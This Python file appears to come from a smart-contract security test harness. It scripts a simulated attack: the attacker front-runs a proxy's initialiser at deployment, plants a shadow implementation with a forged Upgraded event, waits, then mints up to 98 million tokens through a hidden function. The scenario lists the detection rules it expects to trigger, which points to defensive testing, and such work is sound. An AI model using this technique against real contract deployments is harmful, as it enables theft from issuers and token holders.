"""hidden-proxy: the initialiser is front-run at deployment, and a shadow implementation waits behind it."""

from __future__ import annotations

from backbone_chain import artifacts
from backbone_chain.chain import Contract
from backbone_chain.errors import BrokenScenarioError, RefusedError
from backbone_chain.scenarios._base import Expects, Scenario
from backbone_chain.scenarios._world import DAY, open_for_business
from backbone_chain.stage import Stage

QUIET_DAYS = (1, 10, 40, 80)
MINTED_MOST = 98_000_000  # whole tokens


class HiddenProxy(Scenario):
    """An outsider initialises the proxy before the issuer does, and hides a shadow implementation in it (S5).

    1. After each transaction of the deployment the attacker calls the initialiser, on the implementation and on the
    proxy.
    2. Where that works, it upgrades to a shadow that forwards to the audited code, forges the Upgraded event and
    opens the initialiser again.
    3. The issuer initialises and opens for business, none the wiser. 4. Up to 80 quiet days. 5. A hidden function
    mints up to 98 million.

    Built on USPD (planted 2025-09-16, used 2025-12-04).
    """

    needs = frozenset({"mint", "configure_minter", "upgrade", "initialise"})
    expects = Expects(
        errors=frozenset({"already-initialised"}),
        rules=frozenset({"implementation-changed", "initializer-called", "supply-mismatch"}),
    )
    blind_spots = "A back door in the code that was reviewed and is the planned one."
    deploys = True

    def choose(self) -> None:
        """How long the shadow waits, and how much it mints."""
        self.days = self.pick(QUIET_DAYS)
        self.whole = self.random.randint(MINTED_MOST // 10, MINTED_MOST)

    def attack(self, stage: Stage) -> None:
        """Front-run, wait, mint."""
        self.refusals: list[RefusedError] = []
        self.contracts: list[Contract] = []
        self.taken: Contract | None = None
        try:
            stage.deploy(between=lambda contract: self._front_run(stage, contract))
        except RefusedError as refusal:
            raise BrokenScenarioError(f"The issuer's own deployment was refused: {refusal.error}.") from refusal
        self._cash_in(stage)

    def _cash_in(self, stage: Stage) -> None:
        if self.taken is None:
            raise self.refusals[-1]
        attacker = stage.actor("attacker")
        open_for_business(stage)
        stage.chain.warp(self.days * DAY)
        self.taken.send("hiddenMint", attacker.address, self.whole * stage.token.unit, sender=attacker)

    def _front_run(self, stage: Stage, contract: Contract) -> None:
        """The first contract is the implementation; what comes after it stands before it."""
        self.contracts.append(contract)
        attacker = stage.actor("attacker")
        family = stage.blueprint.family
        refusal = stage.attempt(lambda: family.initialise(contract, holder=attacker))
        if refusal is not None:
            self.refusals.append(refusal)
        elif self.taken is None and contract.address != self.contracts[0].address:
            self.taken = self._plant(stage, contract)

    def _plant(self, stage: Stage, proxy: Contract) -> Contract:
        attacker, shadow = stage.actor("attacker"), artifacts.load("ShadowImplementation")
        audited = self.contracts[0].address
        planted = stage.chain.deploy(shadow, audited, attacker.address, sender=attacker)
        take_over = planted.abi.function("takeOver").encode()
        proxy.send("upgradeToAndCall", planted.address, take_over, sender=attacker)
        return Contract(stage.chain, proxy.address, shadow.interface)

    def loss(self, stage: Stage) -> int:
        """What the hidden function gave the attacker."""
        return stage.token.balance_of(stage.actor("attacker"))
